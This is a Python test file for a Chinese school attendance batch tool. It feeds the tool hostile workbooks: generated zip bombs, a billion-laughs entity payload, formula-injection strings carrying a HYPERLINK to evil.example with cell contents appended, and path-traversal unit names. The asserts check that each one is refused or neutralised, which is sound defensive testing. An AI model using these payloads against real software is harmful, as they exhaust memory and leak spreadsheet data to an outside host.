"""SPEC §10.3 (and §9, §13.26): hostile files through the real command. Zip bombs and entity expansion are
refused with a Chinese line while the run goes on; a sheet of a million formatted blank rows is read;
user text that looks like a formula stays text; unit names cannot move files out of out/; a 5 MB
cell does not break the run."""
from __future__ import annotations

import datetime as dt
import io
import json
import os
import re
import struct
import subprocess
import sys
import unicodedata
import zipfile
import zlib
from pathlib import Path

import openpyxl
import python_calamine
import xlsxwriter
from click.testing import CliRunner

from school import check_sheet, make_id, make_workdir, roster_sheet, write

from kc_batch.cli import main

WEEK = "2026-W47"
DAYS = [dt.date(2026, 11, 16) + dt.timedelta(days=i) for i in range(5)]
ROOT = Path(__file__).resolve().parent.parent
MB = 1 << 20


def students(count: int, first_seq: int = 1) -> list[dict]:
    out = []
    for i in range(count):
        birth = dt.date(2017, 1 + i % 12, 1 + i % 28)
        out.append(dict(name=f"学生{first_seq + i}", sex="男" if i % 2 else "女", birth=birth,
                        id=make_id(birth, first_seq + i, bool(i % 2))))
    return out


def school_with_roster(root: Path, count: int = 5) -> tuple[Path, list[dict]]:
    wd = make_workdir(root)
    kids = students(count)
    write(wd / "inbox" / "花名册.xlsx", {"三年级1班": roster_sheet("示例小学三年级(1)班学生花名册", kids)})
    return wd, kids


def weekly(wd: Path):
    return CliRunner().invoke(main, ["weekly", "--dir", str(wd), "--week", WEEK])


def summary_rows(book: Path) -> list[tuple]:
    return list(openpyxl.load_workbook(book, read_only=True)["周汇总"].iter_rows(values_only=True))


def enrolled_total(wd: Path) -> int:
    rows = summary_rows(wd / "out" / WEEK / f"周查汇总_示例小学_{WEEK}.xlsx")
    return next(r[2] for r in rows if r[0] == "合计")


def xlsx_members(rows: list[list], sheet: str = "三年级1班") -> dict[str, bytes]:
    """The members of a small real .xlsx (written by xlsxwriter) holding `rows`."""
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True, "strings_to_numbers": False})
    ws = wb.add_worksheet(sheet)
    for r, row in enumerate(rows):
        for c, v in enumerate(row):
            if v is not None:
                ws.write_string(r, c, str(v)) if isinstance(v, str) else ws.write(r, c, v)
    wb.close()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def write_zip(path: Path, members: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


# ---------------------------------------------------------------- zip bombs


def deflated_filler(megabytes: int, filler: bytes = b"\0", head: bytes = b"", tail: bytes = b""):
    """A raw deflate stream of head + `megabytes` MB of one repeated byte + tail, built without compressing
    it all: after a full flush the compressor starts afresh, so every 1 MB block compresses the same.
    → (stream, crc32, uncompressed size)."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = filler * MB
    start = co.compress(head) + co.flush(zlib.Z_FULL_FLUSH)
    block = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    stream = start + block * megabytes + co.compress(tail) + co.flush()
    crc = zlib.crc32(head)
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    return stream, zlib.crc32(tail, crc), len(head) + megabytes * MB + len(tail)


SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet '
              b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
SHEET_TAIL = b"</sheetData></worksheet>"


def write_raw_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> Path:
    """A zip from (name, stored data, method, crc, uncompressed size) — sizes as given, true or not."""
    out, central = bytearray(), bytearray()
    for name, data, method, crc, size in members:
        raw_name = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x5B21, crc, len(data), size,
                           len(raw_name), 0) + raw_name + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x5B21, crc, len(data),
                               size, len(raw_name), 0, 0, 0, 0, 0, offset) + raw_name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(bytes(out + central + end))
    return path


def bomb_xlsx(path: Path, megabytes: int = 1024, declared_size: int | None = None, xml: bool = False) -> Path:
    """A real workbook whose sheet1.xml is replaced by `megabytes` MB of zeros (about 1 MB on disk per GB),
    or with `xml` by a well-formed sheet padded with that many MB of spaces."""
    members = []
    for name, data in xlsx_members([["学籍号", "姓名"]]).items():
        if name == "xl/worksheets/sheet1.xml":
            stream, crc, size = (deflated_filler(megabytes, b" ", SHEET_HEAD, SHEET_TAIL) if xml
                                 else deflated_filler(megabytes))
            members.append((name, stream, 8, crc, size if declared_size is None else declared_size))
        else:
            co = zlib.compressobj(6, zlib.DEFLATED, -15)
            members.append((name, co.compress(data) + co.flush(), 8, zlib.crc32(data), len(data)))
    return write_raw_zip(path, members)


def run_in_child(wd: Path) -> tuple[subprocess.CompletedProcess, float]:
    """`kc weekly` in a child process; → (result, the child's peak memory in MB)."""
    env = dict(os.environ, PYTHONPATH=str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", ""))
    launcher = ("import os, subprocess, sys, json\n"
                "p = subprocess.Popen(sys.argv[1:])\n"
                "_, status, ru = os.wait4(p.pid, 0)\n"
                "print(json.dumps([os.waitstatus_to_exitcode(status), ru.ru_maxrss / 1024]), file=sys.stderr)\n")
    done = subprocess.run([sys.executable, "-S", "-c", launcher, sys.executable, "-m", "kc_batch.cli", "weekly",
                           "--dir", str(wd), "--week", WEEK], capture_output=True, text=True, env=env, timeout=600)
    code, peak = json.loads(done.stderr.strip().splitlines()[-1])
    done.returncode = code
    return done, peak


def test_zip_bomb_is_refused_in_bounded_memory_and_run_goes_on(tmp_path):
    wd, kids = school_with_roster(tmp_path / "s")
    bomb = bomb_xlsx(wd / "inbox" / "周查表.xlsx", megabytes=1024)
    assert bomb.stat().st_size < 2 * MB
    with zipfile.ZipFile(bomb) as zf:  # what it claims: 1 GB inside
        assert zf.getinfo("xl/worksheets/sheet1.xml").file_size == 1024 * MB

    done, peak_mb = run_in_child(wd)
    assert done.returncode == 0, done.stderr
    line = next(ln for ln in done.stderr.splitlines() if "周查表.xlsx" in ln)
    assert "压缩炸弹" in line
    assert peak_mb < 400  # nothing near the 1 GB was inflated
    assert enrolled_total(wd) == len(kids)


def test_zip_bomb_that_lies_about_its_size_is_refused(tmp_path):
    """The directory says 1000 bytes; the member is a well-formed sheet padded to 1 GB with spaces."""
    wd, kids = school_with_roster(tmp_path / "s")
    bomb_xlsx(wd / "inbox" / "周查表.xlsx", megabytes=1024, declared_size=1000, xml=True)
    done, peak_mb = run_in_child(wd)
    assert done.returncode == 0, done.stderr
    assert any("周查表.xlsx" in ln for ln in done.stderr.splitlines())
    assert peak_mb < 400
    assert enrolled_total(wd) == len(kids)


def test_uncompressed_size_limit_is_configurable(tmp_path):
    """8 MB of incompressible text in a sheet: fine by default, refused under max_uncompressed_mb = 5."""
    wd, kids = school_with_roster(tmp_path / "s")
    filler = os.urandom(4 * MB).hex()
    members = xlsx_members([["学籍号", "姓名"]], "备用")
    members["xl/worksheets/sheet1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
        + filler.encode() + b"</t></is></c></row></sheetData></worksheet>")
    write_zip(wd / "inbox" / "大文件.xlsx", members)

    res = weekly(wd)
    assert res.exit_code == 0, res.output
    assert not any("大文件.xlsx" in ln and "上限" in ln for ln in res.output.splitlines())

    (wd / "kc.toml").write_text((wd / "kc.toml").read_text(encoding="utf-8") + "\n[limits]\nmax_uncompressed_mb = 5\n",
                                encoding="utf-8")
    (wd / "kc.sqlite").unlink()
    res = weekly(wd)
    assert res.exit_code == 0, res.output
    line = next(ln for ln in res.output.splitlines() if "大文件.xlsx" in ln)
    assert "上限 5 MB" in line


# ---------------------------------------------------------------- XML entity expansion


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%s;" % (str(i - 1).encode() if i > 1 else b"")) * 10)
                     for i in range(1, 10))
          + b"]>")


def with_entities(xml: bytes, before_root: bytes = b"") -> bytes:
    """The same XML with a billion-laughs DOCTYPE inserted after its declaration."""
    decl_end = xml.index(b"?>") + 2
    body = xml[decl_end:].replace(b"<t>", b"<t>&lol9;", 1)
    return xml[:decl_end] + before_root + LAUGHS + body


def test_billion_laughs_in_a_sheet_is_refused(tmp_path):
    wd, kids = school_with_roster(tmp_path / "s")
    members = xlsx_members([["示例小学三年级(1)班 第12周周查表"], ["学籍号", "姓名", "周一"]])
    members["xl/worksheets/sheet1.xml"] = with_entities(members["xl/worksheets/sheet1.xml"])
    write_zip(wd / "inbox" / "实体.xlsx", members)
    res = weekly(wd)
    assert res.exit_code == 0, res.output
    line = next(ln for ln in res.output.splitlines() if "实体.xlsx" in ln)
    assert "实体声明" in line
    assert enrolled_total(wd) == len(kids)


def test_entity_declaration_hidden_after_a_comment_in_shared_strings_is_refused(tmp_path):
    wd, kids = school_with_roster(tmp_path / "s")
    members = xlsx_members([["学籍号", "姓名", "周一"], ["G1", "某某", "旷"]])
    members["xl/sharedStrings.xml"] = with_entities(members["xl/sharedStrings.xml"],
                                                    "\n<!-- 正常的注释 -->\n<?pi ok?>\n".encode())
    write_zip(wd / "inbox" / "实体2.xlsx", members)
    res = weekly(wd)
    assert res.exit_code == 0, res.output
    line = next(ln for ln in res.output.splitlines() if "实体2.xlsx" in ln)
    assert "实体声明" in line


# ---------------------------------------------------------------- a million formatted blank rows


def blank_formatted_sheet_xml(rows: int = 1_048_576) -> bytes:
    parts = [b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             b'<dimension ref="A1:T1048576"/><sheetData>']
    parts += [b'<row r="%d" s="1" customFormat="1" ht="15"><c r="A%d" s="1"/><c r="T%d" s="1"/></row>' % (r, r, r)
              for r in range(1, rows + 1)]
    parts.append(b"</sheetData></worksheet>")
    return b"".join(parts)


def test_million_blank_formatted_rows_do_not_hide_the_real_sheet(tmp_path):
    wd = make_workdir(tmp_path / "s")
    kids = students(4)
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    bold = wb.add_format({"bold": True})
    wb.add_worksheet("空白").write_blank(0, 0, None, bold)
    ws = wb.add_worksheet("三年级1班")
    for r, row in enumerate(roster_sheet("示例小学三年级(1)班学生花名册", kids)):
        for c, v in enumerate(row):
            if isinstance(v, dt.date):
                v = v.isoformat()
            if v is not None:
                ws.write_string(r, c, str(v))
    wb.close()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    members["xl/worksheets/sheet1.xml"] = blank_formatted_sheet_xml()
    write_zip(wd / "inbox" / "花名册.xlsx", members)

    res = weekly(wd)
    assert res.exit_code == 0, res.output
    assert enrolled_total(wd) == 4


# ---------------------------------------------------------------- formula injection


PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/"&A1,"点我")'


def injected(prefix: str, field: str) -> str:
    if prefix in ("\t", "\r"):
        return f"{prefix}={field}{PAYLOAD}"  # after trimming, this one starts with '='
    return f"{prefix}{field}{PAYLOAD}"


def name_as_kept(text: str) -> str:
    """§3.5: names lose all inner and outer white space (and full-width forms); the dots of 维吾尔族 names
    (· • ・ ． .) are all kept as · (issue 12 item 19)."""
    return re.sub(r"[·•・.‧∙⋅]", "·", re.sub(r"\s+", "", unicodedata.normalize("NFKC", text)))


def sheet_xml(book: Path) -> dict[str, str]:
    with zipfile.ZipFile(book) as zf:
        return {n: zf.read(n).decode("utf-8") for n in zf.namelist() if n.startswith("xl/worksheets/")}


def test_formula_like_user_text_is_written_as_text(tmp_path):
    wd = make_workdir(tmp_path / "s")
    kids = students(len(PREFIXES))
    for kid, prefix in zip(kids, PREFIXES):
        kid.update(name=injected(prefix, "姓名"), guardian=injected(prefix, "监护人"), phone=injected(prefix, "电话"),
                   teacher=injected(prefix, "包保"))
    roster = roster_sheet("示例小学三年级(1)班学生花名册", kids)
    roster[1] += ["家庭住址"]
    for row, prefix in zip(roster[2:], PREFIXES):
        row.append(injected(prefix, "住址"))
    write(wd / "inbox" / "花名册.xlsx", {"三年级1班": roster})
    marks = {k["name"]: {d: "旷" for d in DAYS} for k in kids}  # everyone on the 缺勤预警 list
    check = check_sheet("三年级(1)班 第12周周查表", DAYS, marks, kids)
    for row, prefix in zip(check[2:], PREFIXES):
        row[-1] = injected(prefix, "备注")
    check[2][3] = "=1+1"  # an unknown mark: 输入错误 repeats it as 原值
    write(wd / "inbox" / "=HYPERLINK(1)周查表.xlsx", {"三年级1班": check})

    res = weekly(wd)
    assert res.exit_code == 0, res.output
    book = wd / "out" / WEEK / f"周查汇总_示例小学_{WEEK}.xlsx"

    for name, xml in sheet_xml(book).items():
        assert "<f>" not in xml and "<f " not in xml, name

    wb = openpyxl.load_workbook(book)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]

    cal = python_calamine.CalamineWorkbook.from_path(str(book))
    alerts = cal.get_sheet_by_name("缺勤预警").to_python()
    header = next(r for r in alerts if r and r[0] == "学籍号")
    by_id = {r[0]: dict(zip(header, r)) for r in alerts if r and str(r[0]).startswith("G")}
    for kid, prefix in zip(kids, PREFIXES):
        row = by_id["G" + kid["id"]]
        assert row["姓名"] == name_as_kept(kid["name"])
        assert row["监护人"] == name_as_kept(kid["guardian"])
        assert row["联系电话"] == kid["phone"].strip()
    errors = cal.get_sheet_by_name("输入错误").to_python()
    assert any(r[0] == "=HYPERLINK(1)周查表.xlsx" and r[4] == "=1+1" for r in errors)
    wb_values = openpyxl.load_workbook(book, data_only=True)
    assert wb_values["输入错误"] is not None


# ---------------------------------------------------------------- unit names as file names


def toml_with_unit(wd: Path, name: str) -> None:
    text = (wd / "kc.toml").read_text(encoding="utf-8")
    text = text.replace('name = "示例小学"', "name = " + json.dumps(name, ensure_ascii=False), 1)
    (wd / "kc.toml").write_text(text, encoding="utf-8")


def every_file(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def test_unit_names_cannot_leave_out_folder(tmp_path):
    for i, unit in enumerate(["../../etc:evil", "..\\..\\evil", "/etc/evil", "a/../../b", "..", "评:估/*?<>|\"x"]):
        base = tmp_path / f"case{i}"
        wd, _ = school_with_roster(base / "deep" / "school")
        toml_with_unit(wd, unit)
        check = check_sheet("三年级(1)班 第12周周查表", DAYS, {}, students(5))
        write(wd / "inbox" / "周查表.xlsx", {"三年级1班": check})
        before = every_file(base)
        res = weekly(wd)
        assert res.exit_code == 0, (unit, res.output)
        new = every_file(base) - before - {wd / "kc.sqlite", wd / "kc.sqlite-wal", wd / "kc.sqlite-shm", wd / ".kc.lock"}
        assert len(new) == 1, (unit, new)
        book = new.pop()
        assert book.parent == wd / "out" / WEEK, (unit, book)
        stem = book.name[len("周查汇总_"):-len(f"_{WEEK}.xlsx")]
        assert stem and not set(stem) & set('/\\:*?"<>|') and ".." not in stem, (unit, book.name)
        title = openpyxl.load_workbook(book, read_only=True)["周汇总"]["A1"].value
        assert unit in title  # the workbook itself keeps the name as given


# ---------------------------------------------------------------- a 5 MB cell


def test_five_megabyte_cells_are_read_and_cut_to_excel_limit(tmp_path):
    wd = make_workdir(tmp_path / "s")
    kids = students(3)
    huge = "长" * (5 * MB // 3)  # 5 MB of UTF-8
    kids[0]["guardian"] = "家长" + huge
    roster = roster_sheet("示例小学三年级(1)班学生花名册", kids)
    roster[1] += ["家庭住址"]
    roster[2].append(huge)
    roster[3].append("石门村")
    write(wd / "inbox" / "花名册.xlsx", {"三年级1班": roster})
    marks = {kids[0]["name"]: {d: "旷" for d in DAYS}}
    check = check_sheet("三年级(1)班 第12周周查表", DAYS, marks, kids)
    check[3][3] = "X" + huge  # an unknown mark of 5 MB
    write(wd / "inbox" / "周查表.xlsx", {"三年级1班": check})

    res = weekly(wd)
    assert res.exit_code == 0, res.output
    book = wd / "out" / WEEK / f"周查汇总_示例小学_{WEEK}.xlsx"
    cal = python_calamine.CalamineWorkbook.from_path(str(book))
    alerts = cal.get_sheet_by_name("缺勤预警").to_python()
    guardian = next(r for r in alerts if r and r[0] == "G" + kids[0]["id"])[12]
    assert 1000 < len(guardian) <= 32767 and guardian.startswith("家长长长")
    errors = cal.get_sheet_by_name("输入错误").to_python()
    raw = next(r[4] for r in errors if r and r[0] == "周查表.xlsx" and r[2] == 4)
    assert 1000 < len(raw) <= 32767 and raw.startswith("X长长")
    assert enrolled_total(wd) == 3
